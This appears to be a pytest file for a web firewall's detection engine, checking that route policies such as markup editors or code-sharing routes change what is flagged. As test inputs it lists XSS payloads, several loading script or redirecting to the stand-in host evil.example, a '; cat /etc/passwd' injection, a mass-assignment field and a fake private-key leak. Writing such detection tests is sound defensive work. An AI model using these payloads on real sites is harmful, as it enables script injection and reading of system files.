"""From a route to the engine's settings."""

from __future__ import annotations

import pytest

from framewall.config.settings import ENGINE_LIMITS, engine_settings
from framewall.detect import builtin_engine
from framewall.limits import BY_NAME, Limits
from framewall.model import Direction
from framewall.policy import RoutePolicy


def test_threshold_and_limits_reach_the_engine() -> None:
    every = tuple((name, 7) for name in BY_NAME)
    assert engine_settings(RoutePolicy(threshold=9, sensitivity=3, limits=Limits(every))).threshold == 9


def found(route: RoutePolicy, direction: Direction, text: str) -> set[str]:
    settings = engine_settings(route, direction)
    report = builtin_engine().inspect([(text.encode(), "auto", False)], settings)
    return {finding.attack for finding in report.findings}


def test_names_that_a_route_protects_are_found_in_clients_messages_alone() -> None:
    route, text = RoutePolicy(protected_fields=("*isAdmin",)), '{"user": {"isAdmin": true}}'
    assert found(route, Direction.CLIENT, text) == {"mass_assignment"}
    assert found(route, Direction.SERVER, text) == set()
    assert found(RoutePolicy(), Direction.CLIENT, text) == set()


def test_leaks_are_looked_for_in_servers_messages_where_asked() -> None:
    text = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAxGkLmNoPqRsTuVwXyZ0123456789abcdefABCDEF\n"
    assert found(RoutePolicy(leaks=True), Direction.SERVER, text) == {"leak"}
    assert found(RoutePolicy(leaks=True), Direction.CLIENT, text) == set()
    assert found(RoutePolicy(), Direction.SERVER, text) == set()


def test_code_may_be_talked_about_where_people_share_it() -> None:
    text = "; cat /etc/passwd"
    assert found(RoutePolicy(), Direction.CLIENT, text)
    assert not found(RoutePolicy(shares_code=True), Direction.CLIENT, text)


EDITOR = (
    '<h2>Plan</h2><p style="background: url(https://cdn.example/a.png)">see <a href="https://a.example/x">this</a></p>',
    '<p><img src="https://cdn.example/cat.png" alt="a cat" width="300"></p>',
    '<svg width="16" height="16" viewBox="0 0 16 16"><path d="M1 1h14v14H1z"/></svg>',
    '<label for="a">Name</label> <input type="text" name="a">',
    '<table><tr><td colspan="2">one</td></tr></table><video src="https://cdn.example/a.mp4" controls></video>',
)
SCRIPTS = (
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<script src=//evil.example/x.js></script>",
    "<iframe src=//evil.example></iframe>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<p style='width: expression(alert(1))'>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '" onmouseover="alert(1)',
)


@pytest.mark.parametrize("text", EDITOR)
def test_markup_may_be_written_where_people_write_it(text: str) -> None:
    assert not found(RoutePolicy(writes_markup=True), Direction.CLIENT, text)


def test_markup_is_an_attack_elsewhere() -> None:
    assert all(found(RoutePolicy(), Direction.CLIENT, text) for text in EDITOR)


@pytest.mark.parametrize("text", SCRIPTS)
def test_markup_that_runs_script_is_an_attack_in_an_editor_too(text: str) -> None:
    assert "xss" in found(RoutePolicy(writes_markup=True), Direction.CLIENT, text)


def test_settings_are_made_once_for_equal_routes() -> None:
    assert engine_settings(RoutePolicy(name="a")) is engine_settings(RoutePolicy(name="a"))


def test_the_engines_limits_are_limits() -> None:
    assert set(ENGINE_LIMITS) <= set(BY_NAME)
